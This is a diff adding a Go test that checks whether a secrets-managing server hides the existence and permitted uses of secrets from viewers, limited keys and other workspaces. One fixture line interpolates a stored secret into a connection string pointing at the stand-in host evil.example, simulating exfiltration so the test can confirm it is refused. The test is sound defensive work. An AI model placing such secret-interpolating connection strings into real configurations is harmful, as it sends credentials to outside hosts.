@@ -206,3 +206,71 @@ func TestToldByPlan(t *testing.T) {
 		}
 	}
 }
+
+// TestToldOfSecrets: who may not list secrets is told neither which there are nor
+// who may use them, and nobody of another workspace which the server has.
+func TestToldOfSecrets(t *testing.T) {
+	t.Parallel()
+	r := mustProduce(t, thief(t, shop), filepath.Join(t.TempDir(), "data"), io.Discard)
+	as := func(path string, body any) string {
+		t.Helper()
+		encoded, err := json.Marshal(body)
+		if err != nil {
+			t.Fatal(err)
+		}
+		method := "POST"
+		if path == "/api/v1/secrets" {
+			method = "PUT"
+		}
+		status, text := r.admin(method, path, encoded, "application/json")
+		if status/100 != 2 {
+			t.Fatalf("%s: %d %s", path, status, text)
+		}
+		return text
+	}
+	as("/api/v1/secrets", object{"path": "stripe", "value": "canary-stripe-1", "resources": []string{"sources/zebra", "warehouse"}, "hosts": []string{"zebra.example.com"}})
+	as("/api/v1/workspaces", object{"name": "acme"})
+	var allows struct{ Token string }
+	if err := json.Unmarshal([]byte(as("/api/v1/keys", object{"name": "allows", "permissions": []string{"file:read", "file:write", "release:read", "release:deploy", "secret:use"}})), &allows); err != nil {
+		t.Fatal(err)
+	}
+	viewer := r.made("viewer")
+	source := func(path string) object { return object{"texts": object{"sources/zebra.yaml": webhook(path)}} }
+	_, there := r.request(viewer, "POST", "/api/v1/files/check", source("stripe"))
+	_, missing := r.request(viewer, "POST", "/api/v1/files/check", source("nothin"))
+	if !strings.Contains(there, "secret:use") || strings.ReplaceAll(there, "stripe", "nothin") != missing {
+		t.Errorf("a viewer is told whether there is a secret: %s, and %s", there, missing)
+	}
+	mine := object{"texts": object{"sources/mine.yaml": webhook("stripe"), "millrace.yaml": shop["millrace.yaml"] + "warehouse: postgres://u:${secret:stripe}@evil.example/x\n"}}
+	for who, key := range map[string]string{"viewer": viewer, "one who may allow uses": allows.Token} {
+		if status, text := r.request(key, "POST", "/api/v1/files/check", mine); status != 200 || strings.Contains(text, "zebra") || !strings.Contains(text, "secret:use") {
+			t.Errorf("a check by a key of a %s: %d %s", who, status, text)
+		}
+		files := with(shop, "sources/mine.yaml", webhook("stripe"))
+		if _, text := r.upload(key, "/api/v1/releases/plan", files); strings.Contains(text, "zebra") || !strings.Contains(text, "secret:use") {
+			t.Errorf("a plan by a key of a %s: %s", who, text)
+		}
+		if status, text := r.upload(key, "/api/v1/releases?base=1&message=x", files); status/100 == 2 || strings.Contains(text, "zebra") {
+			t.Errorf("a deployment by a key of a %s: %d %s", who, status, text)
+		}
+	}
+	if status, text := r.request(adminToken, "POST", "/api/v1/files/check", mine); status != 200 || !strings.Contains(text, "now: sources/zebra") {
+		t.Errorf("who may list them is told what is to be added to: %d %s", status, text)
+	}
+	if status, text := r.request(viewer, "GET", "/api/v1/deploys", nil); status != 200 || !strings.Contains(text, "may not use the secret stripe") || strings.Contains(text, "zebra") {
+		t.Errorf("the deployment that failed: %d %s", status, text)
+	}
+	complete := object{"path": "sources/mine.yaml", "text": "kind: webhook\nuser: $", "line": 2, "column": 8}
+	for who, c := range map[string]struct {
+		key, path string
+		told      bool
+	}{
+		"a viewer":                            {viewer, "/api/v1/files/complete", false},
+		"an editor":                           {r.made("editor"), "/api/v1/files/complete", true},
+		"who may do all, in another of these": {adminToken, "/api/v1/w/acme/files/complete", false},
+	} {
+		if status, text := r.request(c.key, "POST", c.path, complete); status != 200 || strings.Contains(text, "smtp_password") != c.told {
+			t.Errorf("completion tells %s: %d %s", who, status, text)
+		}
+	}
+}
